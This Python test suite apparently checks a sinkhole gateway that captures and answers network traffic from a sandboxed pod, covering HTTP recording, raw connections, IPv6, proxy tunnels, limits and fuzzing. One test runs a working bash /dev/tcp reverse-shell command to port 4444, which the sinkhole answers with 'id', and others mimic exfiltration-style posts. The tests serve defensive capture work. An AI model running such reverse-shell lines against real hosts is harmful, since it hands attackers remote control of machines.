from __future__ import annotations

import time
from typing import TYPE_CHECKING

from collector.records import ConnectionRecord, DnsRecord, HttpRecord, LimitRecord, RawRecord

if TYPE_CHECKING:
    from collections.abc import Callable

    from .conftest import Pod


def test_a_plain_request_is_recorded_and_answered(pod: Pod) -> None:
    assert pod.curl("http://collect.test/drop?x=1", "-d", "secret=1", "-A", "thing/1.0") == b"ok\n"
    (request,) = pod.records(HttpRecord)
    assert (request.method, request.host, request.target) == ("POST", "collect.test", "/drop?x=1")
    assert (request.body, request.size, request.truncated) == (b"secret=1", 8, False)
    assert ("user-agent", "thing/1.0") in request.headers
    assert (request.served_by, request.status, request.response_size) == ("sinkhole", 200, 3)
    assert request.response_type.startswith("text/")
    assert not request.tls
    (connection,) = pod.records(ConnectionRecord)
    (lookup,) = pod.records(DnsRecord, lambda record: record.qtype == "A")
    assert (connection.ip, connection.port) == (lookup.answers[0], 80)
    assert (connection.protocol, connection.conn) == ("http", request.conn)
    assert connection.sent > 0
    assert connection.received > 8


def test_keep_alive_and_pipelining(pod: Pod) -> None:
    pod.curl("http://a.test/1", "http://a.test/2", "-d", "x")
    assert len({record.conn for record in pod.records(HttpRecord, count=2)}) == 1
    answer = pod.python(
        "s = socket.create_connection(('192.0.2.7', 80))\n"
        "s.sendall(b'GET /3 HTTP/1.1\\r\\nHost: b.test\\r\\n\\r\\nGET /4.json HTTP/1.1\\r\\nHost: b.test\\r\\n'\n"
        "          b'Connection: close\\r\\n\\r\\n')\n"
        "while d := s.recv(9999): sys.stdout.write(d.decode())\n",
    )
    assert answer.count(b"200 OK") + answer.count(b"HTTP/1.1 200") >= 2
    assert [record.target for record in pod.records(HttpRecord, count=4)] == ["/1", "/2", "/3", "/4.json"]
    assert pod.records(ConnectionRecord, lambda record: record.ip == "192.0.2.7")


def test_chunked_and_expect_continue(pod: Pod) -> None:
    pod.curl("-H", "Expect: 100-continue", "-H", "Transfer-Encoding: chunked", "-d", "a" * 3000, "http://a.test/")
    (request,) = pod.records(HttpRecord)
    assert (request.size, request.body) == (3000, b"a" * 3000)


def test_a_huge_body_is_counted_but_not_kept(pod: Pod) -> None:
    pod.run("curl", "-sS", "-T", "-", "http://a.test/up", text=b"z" * 5_000_000)
    (request,) = pod.records(HttpRecord)
    assert (request.method, request.size, len(request.body), request.truncated) == ("PUT", 5_000_000, 1 << 20, True)
    assert request.status == 200


def test_an_unfinished_body_is_still_recorded(pod: Pod) -> None:
    pod.python(
        "s = socket.create_connection(('192.0.2.7', 80))\n"
        "s.sendall(b'POST / HTTP/1.1\\r\\nHost: b.test\\r\\nContent-Length: 99\\r\\n\\r\\nhalf')\n",
    )
    (request,) = pod.records(HttpRecord)
    assert (request.body, request.status) == (b"half", 0)


def test_malformed_http_becomes_raw(pod: Pod) -> None:
    payload = "GET /leak NONSENSE\\r\\nA b c\\r\\n\\r\\nmore"
    answer = pod.python(
        f"s = socket.create_connection(('192.0.2.7', 80))\ns.sendall(b'{payload}')\n"
        "s.shutdown(1)\nsys.stdout.write(s.recv(999).decode())\n",
    )
    assert answer.startswith(b"HTTP/1.1 400 ")
    (raw,) = pod.records(RawRecord)
    assert raw.payload == b"GET /leak NONSENSE\r\nA b c\r\n\r\nmore"
    assert raw.answered.startswith(b"HTTP/1.1 400")


def test_raw_bytes_on_any_port_then_a_command_for_the_shell(pod: Pod) -> None:
    answer = pod.python(
        "s = socket.create_connection(('203.0.113.9', 4444))\ns.sendall(b'hello\\0\\xff')\n"
        "got = s.recv(99)\ns.sendall(b'uid=0')\ns.close()\nsys.stdout.write(got.decode())\n",
    )
    assert answer == b"id\n"
    (raw,) = pod.records(RawRecord)
    assert (raw.payload, raw.answered, raw.size) == (b"hello\0\xffuid=0", b"id\n", 12)
    (connection,) = pod.records(ConnectionRecord)
    assert (connection.ip, connection.port, connection.protocol) == ("203.0.113.9", 4444, "raw")


def test_a_real_reverse_shell_obeys(pod: Pod) -> None:
    pod.run("bash", "-c", "exec 3<>/dev/tcp/198.51.100.7/4444; timeout 3 sh <&3 >&3 2>&3")
    (raw,) = pod.records(RawRecord)
    assert raw.answered == b"id\n"
    assert raw.payload.startswith(b"uid=")


def test_who_waits_for_a_banner_gets_one(pod: Pod) -> None:
    answer = pod.python("s = socket.create_connection(('192.0.2.7', 25))\nsys.stdout.write(s.recv(99).decode())\n")
    assert answer == b"220 mail ESMTP\r\n"


def test_silent_connections_and_slow_ones_end(pod: Pod) -> None:
    pod.python(
        "a = socket.create_connection(('192.0.2.7', 7))\n"
        "b = socket.create_connection(('192.0.2.8', 80))\n"
        "b.sendall(b'GET / HTTP/1.1\\r\\n')\nstart = time.time()\n"
        "while time.time() < start + 15:\n"
        "  time.sleep(.2)\n"
        "  try: b.sendall(b'X: y\\r\\n')\n"
        "  except OSError: break\n",
    )
    closed = {record.ip: record for record in pod.records(ConnectionRecord, count=2)}
    assert closed["192.0.2.7"].protocol == "silent"
    assert closed["192.0.2.8"].error == "lasted too long"


def test_ipv6(pod: Pod) -> None:
    assert pod.curl("-g", "http://[2001:db8::5]:8081/six") == b"ok\n"
    (connection,) = pod.records(ConnectionRecord)
    assert (connection.ip, connection.port) == ("2001:db8::5", 8081)
    (request,) = pod.records(HttpRecord)
    assert request.host == "2001:db8::5"


def test_connect_tunnels_are_followed(pod: Pod) -> None:
    assert pod.curl("-x", "http://proxy.test:3128", "--noproxy", "", "https://inner.test/x.sh").startswith(b"#!/bin/sh")
    outer, inner = sorted(pod.records(HttpRecord, count=2), key=lambda record: record.ts)
    assert (outer.method, outer.host, outer.target) == ("CONNECT", "inner.test", "inner.test:443")
    assert (inner.method, inner.host, inner.tls, inner.conn) == ("GET", "inner.test", True, outer.conn)


def test_too_many_connections_are_closed_and_said(start: Callable[..., Pod]) -> None:
    pod = start(limits={"connections": 3})
    pod.python(
        "keep = [socket.create_connection(('192.0.2.7', 99)) for _ in range(6)]\n"
        "closed = sum(s.recv(1) == b'' for s in keep[3:])\nassert closed == 3, closed\n",
    )
    assert [record.what.split(":")[0] for record in pod.records(LimitRecord)] == ["open connections"]


def test_records_are_bounded(start: Callable[..., Pod]) -> None:
    pod = start(limits={"record_bytes": 3000})
    for _ in range(3):
        pod.curl("http://a.test/", "-d", "x" * 900)
    assert pod.stop() == 0
    limits = [record.what for record in pod.records(LimitRecord, count=2)]
    assert limits[0].startswith("bytes of records")
    assert limits[1].startswith("not written: ")
    assert pod.records_path.stat().st_size < 4000


def test_open_connections_are_written_when_it_stops(start: Callable[..., Pod]) -> None:
    pod = start(limits={"idle_seconds": 60, "connection_seconds": 60})
    client = pod.spawn("s = socket.create_connection(('192.0.2.7', 4444))\ns.sendall(b'bye')\ns.recv(9)\ns.recv(9)\n")
    pod.wait_for(lambda: b"4444" in pod.run("ss", "-tn"))
    time.sleep(2)  # It has read what was sent.
    assert pod.all() == []
    assert pod.stop() == 0
    client.wait(120)
    assert pod.records(RawRecord)[0].payload == b"bye"
    assert pod.records(ConnectionRecord)[0].error == "the gateway stopped"


def test_random_bytes_never_break_it(pod: Pod) -> None:
    pod.python(
        "import random\nrng = random.Random(7)\n"
        "starts = [b'', b'\\x16\\x03\\x01', b'GET ', b'POST / HTTP/1.1\\r\\n', b'\\x16', b'CONNECT ',\n"
        "          b'\\x16\\x03\\x01\\x00\\x40\\x01\\x00', b'\\x00\\x20\\x00\\x01',\n"
        "          b'GET / HTTP/1.1\\r\\nHost: a\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n']\n"
        "for n in range(60):\n"
        "  s = socket.create_connection(('192.0.2.7', rng.choice([80, 443, 53, 99])))\n"
        "  try:\n"
        "    s.sendall(starts[n % len(starts)] + rng.randbytes(rng.randrange(200)))\n"
        "    s.shutdown(1)\n"
        "  except OSError: pass\n"
        "  s.close()\n",
    )
    assert len(pod.records(ConnectionRecord, count=60)) == 60
    assert pod.curl("http://a.test/") == b"ok\n"


def test_a_full_disk_ends_the_gateway_loudly(start: Callable[..., Pod]) -> None:
    pod = start(records="/dev/full")
    pod.fails = True
    pod.curl("http://a.test/")
    assert pod.process.wait(120) == 1
    assert "is the disk full?" in (pod.directory / "stderr").read_text()
